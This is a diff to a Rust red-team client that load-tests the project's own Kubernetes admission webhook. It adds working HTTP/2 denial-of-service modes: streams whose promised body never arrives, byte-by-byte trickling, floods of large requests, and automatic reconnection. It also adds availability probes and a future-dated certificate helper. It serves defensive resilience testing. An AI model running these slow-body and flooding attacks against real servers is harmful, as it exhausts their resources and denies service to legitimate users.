@@ -8,8 +8,26 @@
 //!   read the answer.
 //! - `idle-h2`: HTTP/2 connections that each send one review, read its
 //!   answer, then stay open and idle (answering the server's pings).
+//! - `promise`: HTTP/2 streams that declare a body (`content-length`) and
+//!   send none of it, each opened again as soon as it is answered.
+//! - `busy`: HTTP/2 connections that each open a new stream every
+//!   `--every` whose body never comes, so they always have one in flight.
+//! - `trickle`: HTTP/2 streams whose body comes one byte every `--every`.
+//! - `large`: clients each sending valid large reviews one after another,
+//!   reading every answer, and waiting `Retry-After` when shed.
+//!
+//! The last three (and `promise`) reconnect whenever the server closes
+//! their connection, as a determined attacker would. Besides the attacks:
+//!
 //! - `review`: one review over a new connection, read whole; exits 1
 //!   unless the answer is a 200 AdmissionReview that allows the pod.
+//! - `probes`: the two API-server-like probes of the red team, for
+//!   `--duration`: a review every second on a new TLS connection (HTTP/2,
+//!   retried after `Retry-After`, or 1 s, while its deadline allows), and a
+//!   review every second on one persistent HTTP/2 connection, which the
+//!   server must never close; one JSON line of their figures.
+//! - `cert-ahead`: a serving pair signed by an existing CA whose notBefore
+//!   is `--ahead` from now, for the rotation the red team places.
 //!
 //! ```sh
 //! cargo run --release --example attack_client -- --addr 127.0.0.1:9443 \
@@ -22,9 +40,9 @@ use rustls::pki_types::pem::PemObject;
 use rustls::pki_types::{CertificateDer, ServerName};
 use serde_json::json;
 use std::net::SocketAddr;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::sync::atomic::{AtomicUsize, Ordering};
-use std::sync::Arc;
+use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 use tokio::io::AsyncWriteExt;
 use tokio::net::TcpStream;
@@ -37,13 +55,13 @@ type Error = Box<dyn std::error::Error + Send + Sync>;
 struct Args {
     /// The webhook listener.
     #[arg(long)]
-    addr: SocketAddr,
+    addr: Option<SocketAddr>,
     /// The CA the serving certificate chains to (PEM).
     #[arg(long)]
-    ca: PathBuf,
+    ca: Option<PathBuf>,
     /// The AdmissionReview to send.
     #[arg(long)]
-    body: PathBuf,
+    body: Option<PathBuf>,
     /// The name the serving certificate is checked against.
     #[arg(long, default_value = "localhost")]
     server_name: String,
@@ -76,10 +94,68 @@ enum Attack {
         #[arg(long, default_value = "30s", value_parser = humantime::parse_duration)]
         hold: Duration,
     },
+    Promise {
+        #[arg(long, default_value_t = 1)]
+        connections: usize,
+        /// Streams kept open per connection (as many as the server allows).
+        #[arg(long, default_value_t = 4)]
+        streams: usize,
+        /// The `content-length` each stream declares.
+        #[arg(long, default_value_t = 2_883_584)]
+        declared: u64,
+        #[arg(long, default_value = "30s", value_parser = humantime::parse_duration)]
+        hold: Duration,
+    },
+    Busy {
+        #[arg(long, default_value_t = 96)]
+        connections: usize,
+        #[arg(long, default_value = "2s", value_parser = humantime::parse_duration)]
+        every: Duration,
+        #[arg(long, default_value = "30s", value_parser = humantime::parse_duration)]
+        hold: Duration,
+    },
+    Trickle {
+        #[arg(long, default_value_t = 96)]
+        connections: usize,
+        #[arg(long, default_value = "3s", value_parser = humantime::parse_duration)]
+        every: Duration,
+        #[arg(long, default_value = "30s", value_parser = humantime::parse_duration)]
+        hold: Duration,
+    },
+    Large {
+        #[arg(long, default_value_t = 200)]
+        clients: usize,
+        /// The reviews to send, each client taking them in turn (--body is the first).
+        #[arg(long = "also")]
+        also: Vec<PathBuf>,
+        #[arg(long, default_value = "30s", value_parser = humantime::parse_duration)]
+        hold: Duration,
+    },
     Review,
+    Probes {
+        #[arg(long, default_value = "20s", value_parser = humantime::parse_duration)]
+        duration: Duration,
+        /// A review counts as answered when a 200 comes within this long
+        /// of its first try (the webhook's shipped timeoutSeconds).
+        #[arg(long, default_value = "5s", value_parser = humantime::parse_duration)]
+        deadline: Duration,
+        #[arg(long, default_value = "1s", value_parser = humantime::parse_duration)]
+        every: Duration,
+    },
+    CertAhead {
+        /// Holds ca.crt and ca.key.
+        #[arg(long)]
+        ca_dir: PathBuf,
+        /// Where tls.crt and tls.key are written.
+        #[arg(long)]
+        out: PathBuf,
+        /// notBefore is this far ahead of now.
+        #[arg(long, default_value = "15s", value_parser = humantime::parse_duration)]
+        ahead: Duration,
+    },
 }
 
-fn tls(ca: &PathBuf, alpn: &[u8]) -> Result<Arc<rustls::ClientConfig>, Error> {
+fn tls(ca: &Path, alpn: &[u8]) -> Result<Arc<rustls::ClientConfig>, Error> {
     let mut roots = rustls::RootCertStore::empty();
     for cert in CertificateDer::pem_file_iter(ca)? {
         roots.add(cert?)?;
@@ -112,9 +188,14 @@ async fn connect(
 }
 
 fn request(body: &Bytes) -> Result<hyper::Request<()>, Error> {
+    declaring(body.len() as u64)
+}
+
+/// A review's head declaring `len` bytes of body.
+fn declaring(len: u64) -> Result<hyper::Request<()>, Error> {
     let req = hyper::Request::post("https://localhost/mutate-pods")
         .header("content-type", "application/json")
-        .header("content-length", body.len())
+        .header("content-length", len)
         .body(())?;
     Ok(req)
 }
@@ -128,11 +209,14 @@ struct Seen {
     refused: AtomicUsize,
     answered: AtomicUsize,
     closed_by_server: AtomicUsize,
+    /// Answers by status (their count per code).
+    statuses: Mutex<std::collections::BTreeMap<u16, usize>>,
 }
 
 impl Seen {
     fn report(&self, attack: &str, started: Instant) -> serde_json::Value {
         let n = |c: &AtomicUsize| c.load(Ordering::Relaxed);
+        let statuses = self.statuses.lock().map(|s| s.clone()).unwrap_or_default();
         json!({
             "attack": attack,
             "seconds": started.elapsed().as_secs_f64(),
@@ -142,7 +226,59 @@ impl Seen {
             "refused": n(&self.refused),
             "answered": n(&self.answered),
             "closed_by_server": n(&self.closed_by_server),
+            "statuses": statuses,
         })
+    }
+
+    fn status(&self, code: u16) {
+        if let Ok(mut statuses) = self.statuses.lock() {
+            *statuses.entry(code).or_default() += 1;
+        }
+        let counter = if code == 200 { &self.answered } else { &self.refused };
+        counter.fetch_add(1, Ordering::Relaxed);
+    }
+}
+
+/// An HTTP/2 connection whose driver counts the server closing it.
+async fn h2_connection(
+    target: &Target,
+    config: &Arc<rustls::ClientConfig>,
+    seen: &Arc<Seen>,
+) -> Result<(h2::client::SendRequest<Bytes>, tokio::task::JoinHandle<()>), Error> {
+    let tls = match connect(target, config).await {
+        Ok(tls) => tls,
+        Err(e) => {
+            seen.connect_errors.fetch_add(1, Ordering::Relaxed);
+            return Err(e);
+        }
+    };
+    seen.connected.fetch_add(1, Ordering::Relaxed);
+    let (client, connection) = h2::client::handshake(tls).await?;
+    let driver_seen = seen.clone();
+    let driver = tokio::spawn(async move {
+        let _ = connection.await;
+        driver_seen.closed_by_server.fetch_add(1, Ordering::Relaxed);
+    });
+    Ok((client, driver))
+}
+
+/// Runs `attack` on a connection, again on a new one whenever the server
+/// closes it (after a short pause, so a refused connect does not spin).
+async fn reconnecting<F, Fut>(target: Target, config: Arc<rustls::ClientConfig>, seen: Arc<Seen>, attack: F)
+where
+    F: Fn(h2::client::SendRequest<Bytes>) -> Fut,
+    Fut: std::future::Future<Output = ()>,
+{
+    loop {
+        match h2_connection(&target, &config, &seen).await {
+            Ok((client, driver)) => {
+                tokio::select! {
+                    _ = driver => {}
+                    _ = attack(client) => {}
+                }
+            }
+            Err(_) => tokio::time::sleep(Duration::from_millis(100)).await,
+        }
     }
 }
 
@@ -257,6 +393,128 @@ async fn idle_h2(
     Ok(())
 }
 
+/// A stream declaring `declared` bytes whose body comes `trickle` (one
+/// byte each `every` from `body`) or never; done when it is answered or
+/// reset.
+async fn promised_stream(
+    mut client: h2::client::SendRequest<Bytes>,
+    declared: u64,
+    trickle: Option<(Bytes, Duration)>,
+    seen: &Seen,
+) -> Result<(), Error> {
+    client = client.ready().await?;
+    let (response, mut send) = client.send_request(declaring(declared)?, false)?;
+    seen.sent.fetch_add(1, Ordering::Relaxed);
+    let feed = async {
+        match trickle {
+            Some((body, every)) => {
+                for i in 0..body.len() {
+                    send.send_data(body.slice(i..i + 1), i + 1 == body.len())?;
+                    tokio::time::sleep(every).await;
+                }
+                std::future::pending::<()>().await;
+            }
+            None => std::future::pending::<()>().await,
+        }
+        Ok::<_, Error>(())
+    };
+    tokio::select! {
+        answer = response => {
+            let status = answer?.status();
+            seen.status(status.as_u16());
+        }
+        fed = feed => fed?,
+    }
+    Ok(())
+}
+
+/// `streams` streams declaring `declared` bytes each and sending nothing,
+/// each opened again at once when it ends.
+async fn promise(client: h2::client::SendRequest<Bytes>, streams: usize, declared: u64, seen: Arc<Seen>) {
+    let mut all = Vec::new();
+    for _ in 0..streams {
+        let (client, seen) = (client.clone(), seen.clone());
+        all.push(async move {
+            while promised_stream(client.clone(), declared, None, &seen).await.is_ok() {}
+        });
+    }
+    futures::future::join_all(all).await;
+}
+
+/// A new stream every `every` whose 100-byte body never comes.
+async fn busy(client: h2::client::SendRequest<Bytes>, every: Duration, seen: Arc<Seen>) {
+    loop {
+        let (client, seen) = (client.clone(), seen.clone());
+        let stream = tokio::spawn(async move { promised_stream(client, 100, None, &seen).await });
+        tokio::time::sleep(every).await;
+        if stream.is_finished() && matches!(stream.await, Ok(Err(_))) {
+            return;
+        }
+    }
+}
+
+/// One stream at a time whose body comes a byte every `every`.
+async fn trickle(client: h2::client::SendRequest<Bytes>, body: Bytes, every: Duration, seen: Arc<Seen>) {
+    let declared = body.len() as u64;
+    while promised_stream(client.clone(), declared, Some((body.clone(), every)), &seen)
+        .await
+        .is_ok()
+    {}
+}
+
+/// The status, the `Retry-After` seconds and the body of one review on `client`.
+async fn exchange(
+    client: h2::client::SendRequest<Bytes>,
+    body: &Bytes,
+) -> Result<(u16, Option<u64>, Vec<u8>), Error> {
+    let mut ready = client.ready().await?;
+    let (response, mut send) = ready.send_request(request(body)?, false)?;
+    send.reserve_capacity(body.len());
+    send_all(&mut send, body.clone()).await?;
+    let response = response.await?;
+    let status = response.status().as_u16();
+    let retry = response.headers().get("retry-after");
+    let retry = retry.and_then(|v| v.to_str().ok()?.parse::<u64>().ok());
+    let mut answer = response.into_body();
+    let mut text = Vec::new();
+    while let Some(chunk) = answer.data().await {
+        let chunk = chunk?;
+        let _ = answer.flow_control().release_capacity(chunk.len());
+        text.extend_from_slice(&chunk);
+    }
+    Ok((status, retry, text))
+}
+
+/// Sends `body` whole, as flow control allows.
+async fn send_all(send: &mut h2::SendStream<Bytes>, mut body: Bytes) -> Result<(), Error> {
+    while !body.is_empty() {
+        send.reserve_capacity(body.len());
+        let granted = std::future::poll_fn(|cx| send.poll_capacity(cx)).await;
+        let granted = granted.ok_or("stream closed while sending")??;
+        let chunk = body.split_to(granted.min(body.len()));
+        send.send_data(chunk, body.is_empty())?;
+    }
+    Ok(())
+}
+
+/// Large reviews one after another on one connection, every answer read,
+/// `Retry-After` honoured.
+async fn large(client: h2::client::SendRequest<Bytes>, bodies: Arc<Vec<Bytes>>, first: usize, seen: Arc<Seen>) {
+    for i in first.. {
+        let body = &bodies[i % bodies.len()];
+        seen.sent.fetch_add(1, Ordering::Relaxed);
+        match exchange(client.clone(), body).await {
+            Ok((status, retry, _)) => {
+                seen.status(status);
+                if status == 503 {
+                    tokio::time::sleep(Duration::from_secs(retry.unwrap_or(1))).await;
+                }
+            }
+            Err(_) => return,
+        }
+    }
+}
+
 /// One review on a new HTTP/2 connection, its answer checked.
 async fn review(target: Target, config: Arc<rustls::ClientConfig>, body: Bytes) -> i32 {
     let started = Instant::now();
@@ -264,18 +522,7 @@ async fn review(target: Target, config: Arc<rustls::ClientConfig>, body: Bytes) 
         let tls = connect(&target, &config).await?;
         let (client, connection) = h2::client::handshake(tls).await?;
         tokio::spawn(connection);
-        let mut ready = client.ready().await?;
-        let (response, mut send) = ready.send_request(request(&body)?, false)?;
-        send.send_data(body, true)?;
-        let response = response.await?;
-        let status = response.status();
-        let mut answer = response.into_body();
-        let mut text = Vec::new();
-        while let Some(chunk) = answer.data().await {
-            let chunk = chunk?;
-            let _ = answer.flow_control().release_capacity(chunk.len());
-            text.extend_from_slice(&chunk);
-        }
+        let (status, _, text) = exchange(client, &body).await?;
         Ok::<_, Error>((status, text))
     };
     let limit = Duration::from_secs(20);
@@ -283,7 +530,7 @@ async fn review(target: Target, config: Arc<rustls::ClientConfig>, body: Bytes) 
         Ok(Ok((status, text))) => {
             let answer: serde_json::Value = serde_json::from_slice(&text).unwrap_or_default();
             let allowed = answer["response"]["allowed"] == true;
-            (status.as_u16(), allowed, None)
+            (status, allowed, None)
         }
         Ok(Err(e)) => (0, false, Some(e.to_string())),
         Err(_) => (0, false, Some(format!("no answer within {limit:?}"))),
@@ -299,30 +546,280 @@ async fn review(target: Target, config: Arc<rustls::ClientConfig>, body: Bytes) 
     i32::from(!(status == 200 && allowed))
 }
 
+/// One probe's reviews: how long each took to its 200, or why it failed.
+#[derive(Default)]
+struct Probed {
+    seconds: Vec<f64>,
+    failures: Vec<String>,
+    tries: usize,
+}
+
+impl Probed {
+    fn report(&self, deadline: Duration) -> serde_json::Value {
+        let mut all = self.seconds.clone();
+        // A failed review counts at the deadline for the percentiles.
+        all.extend(self.failures.iter().map(|_| deadline.as_secs_f64()));
+        all.sort_by(f64::total_cmp);
+        let at = |q: f64| all.get(((all.len().max(1) - 1) as f64 * q).round() as usize).copied();
+        json!({
+            "reviews": all.len(),
+            "answered": self.seconds.len(),
+            "tries": self.tries,
+            "p50": at(0.5),
+            "p99": at(0.99),
+            "max": all.last(),
+            "failures": self.failures.iter().take(5).collect::<Vec<_>>(),
+        })
+    }
+}
+
+/// Why a try failed, and whether another may follow (after `Retry-After`
+/// or a second, as the API server's client would).
+enum Try {
+    Answered,
+    Again(String, Duration),
+}
+
+fn outcome(result: Result<(u16, Option<u64>, Vec<u8>), Error>) -> Try {
+    match result {
+        Ok((200, _, text)) => {
+            let answer: serde_json::Value = serde_json::from_slice(&text).unwrap_or_default();
+            if answer["response"]["allowed"] == true {
+                Try::Answered
+            } else {
+                Try::Again(format!("200 without an allowance: {answer}"), Duration::from_secs(1))
+            }
+        }
+        Ok((status, retry, text)) => {
+            let text = String::from_utf8_lossy(&text[..text.len().min(200)]).into_owned();
+            let wait = Duration::from_secs(retry.unwrap_or(1));
+            Try::Again(format!("{status}: {text}"), wait)
+        }
+        Err(e) => {
+            // Streams refused or above a GOAWAY were not processed: Go's
+            // client retries them at once on another connection.
+            let refused = e.downcast_ref::<h2::Error>().is_some_and(|h2| {
+                h2.reason() == Some(h2::Reason::REFUSED_STREAM) || h2.is_go_away()
+            });
+            let wait = if refused { Duration::ZERO } else { Duration::from_secs(1) };
+            Try::Again(e.to_string(), wait)
+        }
+    }
+}
+
+/// Retries `attempt` within `deadline` of the first try; the time to the
+/// 200, or the last failure.
+async fn within<F, Fut>(deadline: Duration, probed: &Mutex<Probed>, mut attempt: F)
+where
+    F: FnMut() -> Fut,
+    Fut: std::future::Future<Output = Result<(u16, Option<u64>, Vec<u8>), Error>>,
+{
+    let started = Instant::now();
+    let mut last = String::new();
+    loop {
+        let left = deadline.saturating_sub(started.elapsed());
+        if left.is_zero() {
+            break;
+        }
+        if let Ok(mut p) = probed.lock() {
+            p.tries += 1;
+        }
+        let result = match tokio::time::timeout(left, attempt()).await {
+            Ok(result) => outcome(result),
+            Err(_) => Try::Again(format!("no answer within {deadline:?}"), Duration::ZERO),
+        };
+        match result {
+            Try::Answered => {
+                if let Ok(mut p) = probed.lock() {
+                    p.seconds.push(started.elapsed().as_secs_f64());
+                }
+                return;
+            }
+            Try::Again(why, wait) => {
+                last = why;
+                if started.elapsed() + wait >= deadline {
+                    break;
+                }
+                tokio::time::sleep(wait).await;
+            }
+        }
+    }
+    let at = started.elapsed().as_secs_f64();
+    if let Ok(mut p) = probed.lock() {
+        p.failures.push(format!("after {at:.2} s: {last}"));
+    }
+}
+
+/// The persistent probe's connection: opened again only if the server
+/// closes it, which counts as an eviction.
+struct Persistent {
+    target: Target,
+    config: Arc<rustls::ClientConfig>,
+    client: tokio::sync::Mutex<Option<h2::client::SendRequest<Bytes>>>,
+    closed: Arc<AtomicUsize>,
+    goaway: Arc<AtomicUsize>,
+}
+
+impl Persistent {
+    async fn client(&self) -> Result<h2::client::SendRequest<Bytes>, Error> {
+        let mut kept = self.client.lock().await;
+        if let Some(client) = kept.as_ref() {
+            return Ok(client.clone());
+        }
+        let tls = connect(&self.target, &self.config).await?;
+        let (client, connection) = h2::client::handshake(tls).await?;
+        let (closed, goaway) = (self.closed.clone(), self.goaway.clone());
+        tokio::spawn(async move {
+            match connection.await {
+                Err(e) if e.is_go_away() => goaway.fetch_add(1, Ordering::Relaxed),
+                // A connection ended with GOAWAY(NO_ERROR) ends Ok.
+                Ok(()) => goaway.fetch_add(1, Ordering::Relaxed),
+                Err(_) => closed.fetch_add(1, Ordering::Relaxed),
+            };
+        });
+        *kept = Some(client.clone());
+        Ok(client)
+    }
+
+    /// Forgets a connection the server has closed.
+    async fn forget_if_closed(&self, error: &Error) {
+        let gone = error.downcast_ref::<h2::Error>().is_some_and(|e| e.is_go_away() || e.is_io());
+        if gone {
+            *self.client.lock().await = None;
+        }
+    }
+}
+
+/// The red team's two API-server-like probes, for `duration`.
+async fn probes(target: Target, config: Arc<rustls::ClientConfig>, body: Bytes, duration: Duration, deadline: Duration, every: Duration) {
+    let started = Instant::now();
+    let fresh = Arc::new(Mutex::new(Probed::default()));
+    let kept = Arc::new(Mutex::new(Probed::default()));
+    let persistent = Arc::new(Persistent {
+        target: target.clone(),
+        config: config.clone(),
+        client: tokio::sync::Mutex::new(None),
+        closed: Arc::default(),
+        goaway: Arc::default(),
+    });
+    // Opened before the first review, as the API server keeps one open.
+    if let Err(e) = persistent.client().await {
+        if let Ok(mut p) = kept.lock() {
+            p.failures.push(format!("the persistent connection: {e}"));
+        }
+    }
+    let mut tasks = Vec::new();
+    let mut tick = tokio::time::interval(every);
+    while started.elapsed() < duration {
+        tick.tick().await;
+        let (target, config, sent, fresh) = (target.clone(), config.clone(), body.clone(), fresh.clone());
+        tasks.push(tokio::spawn(async move {
+            within(deadline, &fresh, || async {
+                let tls = connect(&target, &config).await?;
+                let (client, connection) = h2::client::handshake(tls).await?;
+                tokio::spawn(connection);
+                exchange(client, &sent).await
+            })
+            .await;
+        }));
+        let (persistent, sent, kept) = (persistent.clone(), body.clone(), kept.clone());
+        tasks.push(tokio::spawn(async move {
+            within(deadline, &kept, || async {
+                let client = persistent.client().await?;
+                let result = exchange(client, &sent).await;
+                if let Err(e) = &result {
+                    persistent.forget_if_closed(e).await;
+                }
+                result
+            })
+            .await;
+        }));
+    }
+    futures::future::join_all(tasks).await;
+    let (fresh, kept) = (fresh.lock(), kept.lock());
+    let (Ok(fresh), Ok(kept)) = (fresh, kept) else {
+        return;
+    };
+    let mut persistent_report = kept.report(deadline);
+    persistent_report["goaway"] = json!(persistent.goaway.load(Ordering::Relaxed));
+    persistent_report["closed"] = json!(persistent.closed.load(Ordering::Relaxed));
+    let report = json!({
+        "attack": "probes",
+        "seconds": started.elapsed().as_secs_f64(),
+        "new_connection": fresh.report(deadline),
+        "persistent": persistent_report,
+    });
+    println!("{report}");
+}
+
+/// Writes a serving pair signed by the CA of `ca_dir`, valid from `ahead`
+/// from now, for the Service the red team's certificates name.
+fn cert_ahead(ca_dir: &Path, out: &Path, ahead: Duration) -> Result<(), Error> {
+    use kserve_injector::certs::{service_dns_names, Authority, Validity};
+    let read = |name: &str| std::fs::read_to_string(ca_dir.join(name));
+    let authority = Authority::from_pem(&read("ca.crt")?, &read("ca.key")?)?;
+    let now = time::OffsetDateTime::now_utc();
+    let not_before = now + time::Duration::try_from(ahead)?;
+    let validity = Validity {
+        not_before,
+        not_after: not_before + time::Duration::days(30),
+    };
+    let names = service_dns_names("kserve-injector", "kserve")?;
+    let pair = authority.issue_serving("kserve-injector.kserve.svc", &names, validity)?;
+    std::fs::create_dir_all(out)?;
+    std::fs::write(out.join("tls.crt"), &pair.cert_pem)?;
+    std::fs::write(out.join("tls.key"), &pair.key_pem)?;
+    println!("{}", json!({"not_before_unix": not_before.unix_timestamp()}));
+    Ok(())
+}
+
+/// Runs `count` copies of `attack`, each on connections of its own.
+fn spawn_each<F, Fut>(count: usize, attack: F)
+where
+    F: Fn(usize) -> Fut,
+    Fut: std::future::Future<Output = ()> + Send + 'static,
+{
+    for i in 0..count {
+        tokio::spawn(attack(i));
+    }
+}
+
 #[tokio::main]
 async fn main() -> Result<(), Error> {
     let args = Args::parse();
+    if let Attack::CertAhead { ca_dir, out, ahead } = &args.attack {
+        return cert_ahead(ca_dir, out, *ahead);
+    }
+    let (Some(addr), Some(ca), Some(body)) = (args.addr, args.ca.as_deref(), args.body.as_deref())
+    else {
+        return Err("--addr, --ca and --body are required".into());
+    };
     let target = Target {
-        addr: args.addr,
+        addr,
         name: ServerName::try_from(args.server_name.clone())?,
     };
-    let body = Bytes::from(std::fs::read(&args.body)?);
+    let body = Bytes::from(std::fs::read(body)?);
     let started = Instant::now();
     let seen = Arc::new(Seen::default());
+    let h2 = tls(ca, b"h2")?;
     let (name, hold) = match args.attack {
+        Attack::CertAhead { .. } => return Ok(()),
         Attack::Review => {
-            let code = review(target, tls(&args.ca, b"h2")?, body).await;
+            let code = review(target, h2, body).await;
             std::process::exit(code);
+        }
+        Attack::Probes { duration, deadline, every } => {
+            probes(target, h2, body, duration, deadline, every).await;
+            std::process::exit(0);
         }
         Attack::H2Unread {
             connections,
             streams,
             hold,
         } => {
-            let config = tls(&args.ca, b"h2")?;
             for _ in 0..connections {
                 let (config, body, seen, target) =
-                    (config.clone(), body.clone(), seen.clone(), target.clone());
+                    (h2.clone(), body.clone(), seen.clone(), target.clone());
                 tokio::spawn(async move {
                     if h2_unread(target.clone(), config, body, streams, seen.clone())
                         .await
@@ -335,7 +832,7 @@ async fn main() -> Result<(), Error> {
             ("h2-unread", hold)
         }
         Attack::H1Unread { connections, hold } => {
-            let config = tls(&args.ca, b"http/1.1")?;
+            let config = tls(ca, b"http/1.1")?;
             for _ in 0..connections {
                 let (config, body, seen, target) =
                     (config.clone(), body.clone(), seen.clone(), target.clone());
@@ -355,12 +852,11 @@ async fn main() -> Result<(), Error> {
             parallel,
             hold,
         } => {
-            let config = tls(&args.ca, b"h2")?;
             let gate = Arc::new(tokio::sync::Semaphore::new(parallel));
             for _ in 0..connections {
                 let permit = gate.clone().acquire_owned().await?;
                 let (config, body, seen, target) =
-                    (config.clone(), body.clone(), seen.clone(), target.clone());
+                    (h2.clone(), body.clone(), seen.clone(), target.clone());
                 tokio::spawn(async move {
                     if idle_h2(target.clone(), config, body, seen.clone(), permit)
                         .await
@@ -371,6 +867,64 @@ async fn main() -> Result<(), Error> {
                 });
             }
             ("idle-h2", hold)
+        }
+        Attack::Promise {
+            connections,
+            streams,
+            declared,
+            hold,
+        } => {
+            spawn_each(connections, |_| {
+                let seen = seen.clone();
+                reconnecting(target.clone(), h2.clone(), seen.clone(), move |client| {
+                    promise(client, streams, declared, seen.clone())
+                })
+            });
+            ("promise", hold)
+        }
+        Attack::Busy {
+            connections,
+            every,
+            hold,
+        } => {
+            spawn_each(connections, |_| {
+                let seen = seen.clone();
+                reconnecting(target.clone(), h2.clone(), seen.clone(), move |client| {
+                    busy(client, every, seen.clone())
+                })
+            });
+            ("busy", hold)
+        }
+        Attack::Trickle {
+            connections,
+            every,
+            hold,
+        } => {
+            spawn_each(connections, |_| {
+                let (seen, body) = (seen.clone(), body.clone());
+                reconnecting(target.clone(), h2.clone(), seen.clone(), move |client| {
+                    trickle(client, body.clone(), every, seen.clone())
+                })
+            });
+            ("trickle", hold)
+        }
+        Attack::Large {
+            clients,
+            also,
+            hold,
+        } => {
+            let mut bodies = vec![body.clone()];
+            for path in &also {
+                bodies.push(Bytes::from(std::fs::read(path)?));
+            }
+            let bodies = Arc::new(bodies);
+            spawn_each(clients, |i| {
+                let (seen, bodies) = (seen.clone(), bodies.clone());
+                reconnecting(target.clone(), h2.clone(), seen.clone(), move |client| {
+                    large(client, bodies.clone(), i, seen.clone())
+                })
+            });
+            ("large", hold)
         }
     };
     tokio::time::sleep(hold).await;
